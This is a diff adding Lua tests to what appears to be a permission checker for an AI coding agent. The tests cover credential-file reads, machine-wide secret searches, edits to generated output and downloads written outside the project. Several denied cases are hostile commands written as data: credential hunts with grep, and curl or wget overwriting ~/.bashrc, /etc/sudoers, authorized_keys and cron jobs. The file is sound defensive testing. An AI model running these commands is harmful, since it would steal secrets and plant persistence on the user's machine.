@@ -413,3 +413,222 @@ local usual_allowed = {
 for i, r in ipairs(usual_allowed) do
   test("the usual call passes " .. i, function() expect.no_objection(r()) end)
 end
+
+-- Credentials kept under other names: a dotenv file named for its stage,
+-- direnv's .envrc, service account keys, a Secret's manifest, Terraform
+-- variables, the CLIs' token files and folders (the whole of ~/.aws/ and
+-- ~/.kube/), by every tool and by the shell.
+local credential_names = {
+  { B("cat staging.env"), "reading staging.env" },
+  { B("cat docker.env"), "reading docker.env" },
+  { R("/home/dev/project/config/prod.env"), "which may hold keys" },
+  { E("/home/dev/project/deploy/live.env"), "which may hold keys" },
+  { B("less .envrc"), "reading .envrc" },
+  { R("/home/dev/project/ci-service-account.json"), "which may hold keys" },
+  { B("jq .private_key keys/gke-serviceAccount-prod.json"), "reading keys/gke-serviceAccount-prod.json" },
+  { B("cat firebase-adminsdk-x1y2z.json"), "reading firebase-adminsdk-x1y2z.json" },
+  { W("/home/dev/project/svc_service_account_dev.json"), "which may hold keys" },
+  { B("head -5 gcp_credentials.json"), "reading gcp_credentials.json" },
+  { R("/home/dev/project/k8s/postgres-secret.yaml"), "which may hold keys" },
+  { B("cat config/secrets.yml"), "reading config/secrets.yml" },
+  { R("/home/dev/project/secrets.toml"), "which may hold keys" },
+  { B("cat infra/prod.tfvars"), "reading infra/prod.tfvars" },
+  { R("/home/dev/project/terraform.tfvars.json"), "which may hold keys" },
+  { B("cat ~/.aws/config"), "reading ~/.aws/config" },
+  { R("/home/dev/.aws/sso/cache/abc.json"), "which may hold keys" },
+  { B("tail ~/.kube/cache/discovery/x.json"), "reading ~/.kube/cache/discovery/x.json" },
+  { B("cat kubeconfig"), "reading kubeconfig" },
+  { R("/home/dev/.config/hub"), "which may hold keys" },
+  { R("/home/dev/.config/doctl/config.yaml"), "which may hold keys" },
+  { B("find ~/.oci/sessions -name token -exec cat {} +"), "reading ~/.oci/sessions" },
+  { R("/home/dev/.boto"), "which may hold keys" },
+  { B("cat ~/.terraformrc"), "reading ~/.terraformrc" },
+  { R("/home/dev/.m2/settings.xml"), "which may hold keys" },
+  { B("grep password ~/.gradle/gradle.properties"), "reading ~/.gradle/gradle.properties" },
+  { R("/etc/nginx/.htpasswd"), "which may hold keys" },
+  { T("Glob", "fs.read", { pattern = "**/*.tfvars" }), "reading **/*.tfvars" },
+  { T("Glob", "fs.read", { pattern = "prod*.env", path = "/home/dev/project/deploy" }), "reading prod*.env" },
+  { T("Glob", "fs.read", { pattern = "**/staging.env" }), "reading **/staging.env" },
+  { T("Glob", "fs.read", { pattern = "*.json", path = "/home/dev/.aws" }), "reading /home/dev/.aws" },
+  { T("Glob", "fs.read", { pattern = "**/*.pem" }), "reading **/*.pem" },
+  { T("Grep", "fs.read", { pattern = "key", glob = "**/*-secret.yaml" }), "reading **/*-secret.yaml" },
+  { B("cat */.env"), "reading */.env" },
+}
+for i, c in ipairs(credential_names) do
+  test("a credential under another name is not read " .. i .. ": " .. c[2], function() denied(c[1](), c[2]) end)
+end
+
+-- The names beside them hold no secret: templates and examples, source
+-- files, public keys written as PEM, and a glob whose literal part is only
+-- an extension (*.json, **/*.yaml): it names every such file, not a
+-- secret; what does not show a file's contents (du, file, realpath) and
+-- names moved or fed from git's own list of tracked files read nothing.
+local credential_near = {
+  T("Glob", "fs.read", { pattern = "*.json", path = "/home/dev/project" }),
+  T("Glob", "fs.read", { pattern = "**/*.yaml" }),
+  T("Glob", "fs.read", { pattern = "**/app*" }),
+  T("Glob", "fs.read", { pattern = "**/*.env.ts" }),
+  T("Glob", "fs.read", { pattern = "src/**/*.yml" }),
+  T("Glob", "fs.read", { pattern = "*" }),
+  T("Grep", "fs.read", { pattern = "apiVersion", glob = "**/*.yaml" }),
+  B("jq .name *.json"),
+  B("cat config/*.yaml"),
+  B("GRANT SELECT ON *.* TO 'reader'@'%';"),
+  B("mysql -e 'GRANT SELECT ON *.* TO reader'"),
+  R("/home/dev/project/foo.pub.pem"),
+  B("openssl rsa -pubin -in keys/server-public.pem -text"),
+  R("/home/dev/project/certs/pubkey.pem"),
+  B("du -sh .[^.]* *"),
+  B("du -sh ~/.aws ~/.kube"),
+  B("file secrets.yaml"),
+  B("realpath .env"),
+  B("myapp | xargs -0 mv --target-directory ./build"),
+  B("ls | xargs -n1 ln -s -t links"),
+  B("git ls-files | xargs cat README.md"),
+  B("git ls-files '*.md' | xargs wc -l"),
+  B("git diff --name-only main | xargs cat"),
+  R("/home/dev/project/src/secrets.ts"),
+  R("/home/dev/project/docs/service-accounts.md"),
+  R("/home/dev/project/terraform.tfvars.example"),
+  R("/home/dev/project/.envrc.example"),
+  R("/home/dev/project/environment.ts"),
+  B("node -e 'console.log(process.env.HOME)'"),
+  R("/home/dev/project/conda.env.yml"),
+  B("cat .env.example"),
+  B("cp .env.example .env"),
+  B("grep -rn FROM .docker"),
+  R("/home/dev/project/.docker/php/Dockerfile"),
+  -- a credential a cluster or cloud tool is handed, which it uses without showing
+  B("kubectl --kubeconfig ./kubeconfig get pods"),
+  B("helm upgrade web ./chart --kubeconfig=kubeconfig"),
+  B("terraform plan -var-file=prod.tfvars"),
+  B("tofu apply -var-file prod.tfvars"),
+  B("gcloud auth activate-service-account --key-file=ci-service-account.json"),
+}
+for i, r in ipairs(credential_near) do
+  test("the names near the credential files pass " .. i, function() expect.no_objection(r()) end)
+end
+
+-- The names xargs hands a reader from a list that is not git's tracked
+-- files may be anything (git ls-files -o lists the ignored .env too).
+local fed_reads = {
+  { B("git ls-files -o | xargs cat"), "which may hold keys" },
+  { B("git ls-files --others --ignored --exclude-standard | xargs cat"), "which may hold keys" },
+  { B("find . -type f | xargs cat"), "which may hold keys" },
+  { B("ls -a | xargs head"), "which may hold keys" },
+}
+for i, c in ipairs(fed_reads) do
+  test("names fed from another list are reads " .. i .. ": " .. c[2], function() denied(c[1](), c[2]) end)
+end
+
+-- A search of the machine, the home folder or a system folder for
+-- passwords and tokens hunts for credentials [rule credential-hunt]; the
+-- same words searched in the project or in a library are everyday work.
+local hunts = {
+  { B("grep -ri password /"), "searching / for passwords or tokens [rule credential-hunt]" },
+  { B("grep -rIl 'passwd' /etc 2>/dev/null"), "searching /etc for passwords or tokens" },
+  { B("rg -i api_key ~"), "searching ~ for passwords or tokens" },
+  { B("sudo grep -r --include='*.conf' secret /var"), "searching /var for passwords or tokens" },
+  { B("grep -rn AWS_ACCESS_KEY /home"), "searching /home for passwords or tokens" },
+  { B("egrep -r 'token|credential' $HOME"), "for passwords or tokens" },
+  { T("Grep", "fs.read", { pattern = "password\\s*=", path = "/etc" }), "searching /etc for passwords or tokens" },
+  { T("Grep", "fs.read", { pattern = "TOKEN", path = "/home/dev" }), "searching /home/dev for passwords or tokens" },
+}
+for i, c in ipairs(hunts) do
+  test("a credential hunt outside the project is blocked " .. i .. ": " .. c[2], function() denied(c[1](), c[2]) end)
+end
+local hunts_near = {
+  B("grep -rn token src/"),
+  B("grep -r password /usr/lib/python3/dist-packages/requests"),
+  B("rg -i secret internal/"),
+  T("Grep", "fs.read", { pattern = "password" }),
+  T("Grep", "fs.read", { pattern = "api_key", path = "/home/dev/project/src" }),
+  B("grep -r TODO /etc/nginx"),
+  B("grep -rn tokenize ~/project/src"),
+}
+for i, r in ipairs(hunts_near) do
+  test("a search for those words inside the project or a library passes " .. i, function() expect.no_objection(r()) end)
+end
+
+-- What a build or a package manager writes is not edited by hand [rule
+-- generated]: the next build or install overwrites it.
+local generated = {
+  { W("/home/dev/project/node_modules/left-pad/index.js"), "editing generated output (node_modules/left-pad/index.js) [rule generated]" },
+  { E("web/node_modules/react/index.js"), "[rule generated]" },
+  { E("dist/app.js"), "editing generated output (dist/app.js)" },
+  { W("/home/dev/project/build/out.txt"), "editing generated output (build/out.txt)" },
+  { E("target/release/build.rs"), "[rule generated]" },
+  { W(".next/server/page.js"), "[rule generated]" },
+  { E("public/vendor.min.js"), "editing generated output (public/vendor.min.js)" },
+  { E("static/site.min.css"), "[rule generated]" },
+  { W("assets/main.bundle.js"), "[rule generated]" },
+  { W("assets/812.chunk.js"), "[rule generated]" },
+  { E("deps.lock"), "editing generated output (deps.lock)" },
+  { E(".venv/lib/python3.12/site-packages/x.py"), "[rule generated]" },
+  { W("src/__pycache__/m.cpython-312.pyc"), "[rule generated]" },
+  { B("echo x > dist/index.html"), "editing generated output (dist/index.html)" },
+  { B("sed -i s/a/b/ node_modules/x/lib.js"), "[rule generated]" },
+  { B("cp patch.js node_modules/x/lib.js"), "[rule generated]" },
+  { B("printf 'x' > build/version.txt"), "[rule generated]" },
+  { B("cat > dist/config.js <<EOF\nwindow.x = 1\nEOF"), "[rule generated]" },
+  { B("npm pack > node_modules/x/index.js"), "[rule generated]" },
+}
+for i, c in ipairs(generated) do
+  test("generated output is not edited by hand " .. i .. ": " .. c[2], function() denied(c[1](), c[2]) end)
+end
+local generated_near = {
+  R("/home/dev/project/dist/app.js"),
+  B("cat node_modules/x/package.json"),
+  W("src/build/config.ts"),
+  E("tools/dist/README.md"),
+  W("docs/out/notes.md"),
+  W("src/app.js"),
+  E("styles/main.css"),
+  W("/tmp/build/x.txt"),
+  B("cp index.html dist"),
+  B("npm run build > build.log"),
+  -- a program's output written into a build folder is a build step
+  B("sha256sum src/main.go > build/out.txt"),
+  B("pnpm audit --json > build/audit.json"),
+  B("cat src/a.js src/b.js > dist/all.js"),
+  B("npx terser app.js > app.min.js"),
+  B("echo x | tee ./out/log.txt"),
+  B("cp index.html dist/index.html"),
+  W("/home/dev/project/builder.go"),
+  W("/home/dev/project/distance.py"),
+}
+for i, r in ipairs(generated_near) do
+  test("writes beside generated output pass " .. i, function() expect.no_objection(r()) end)
+end
+
+-- A download is a write: the file curl -o and wget -O write (and wget's
+-- log, -o), socat's open:/create: address, judged as any other write.
+local download_writes = {
+  { B("curl file:///tmp/payload -o /home/dev/.bashrc"), "a write outside the project (/home/dev/.bashrc)" },
+  { B("curl -sLo ~/.profile https://x.example/p"), "a write outside the project (/home/dev/.profile)" },
+  { B("curl --output=/etc/cron.d/job https://x.example/j"), "a write outside the project (/etc/cron.d/job)" },
+  { B("curl -so/usr/local/bin/tool https://x.example/t"), "a write outside the project (/usr/local/bin/tool)" },
+  { B("sudo wget -i /tmp/in -o /etc/sudoers"), "a write outside the project (/etc/sudoers)" },
+  { B("wget -O/etc/hosts https://x.example/h"), "a write outside the project (/etc/hosts)" },
+  { B("wget --output-document ~/.ssh/authorized_keys https://x.example/k"), "a write outside the project" },
+  { B("curl -o .github/workflows/ci.yml https://x.example/ci.yml"), "changing CI configuration" },
+  { B("socat -u 'exec:echo x' open:/home/dev/.bashrc,creat"), "a write outside the project (/home/dev/.bashrc)" },
+  { B("socat - CREATE:/etc/motd"), "a write outside the project (/etc/motd)" },
+}
+for i, c in ipairs(download_writes) do
+  test("a download's file is a write " .. i .. ": " .. c[2], function() denied(c[1](), c[2]) end)
+end
+local download_near = {
+  B("curl -fsSL https://x.example/a.tgz -o /tmp/a.tgz"),
+  B("curl -sLo bin/tool https://x.example/tool"),
+  B("curl -o- https://example.com"),
+  B("wget -qO- https://example.com"),
+  B("curl -O https://example.com/a.tgz"),
+  B("wget -O vendor/lib.js https://example.com/lib.js"),
+  B("curl -s -o /dev/null -w '%{http_code}' https://example.com"),
+  B("curl -H 'X-Note: -o /etc/x' https://example.com"),
+  B("socat TCP-LISTEN:8080,fork TCP:localhost:3000"),
+}
+for i, r in ipairs(download_near) do
+  test("downloads into the project or a scratch folder pass " .. i, function() expect.no_objection(r()) end)
+end
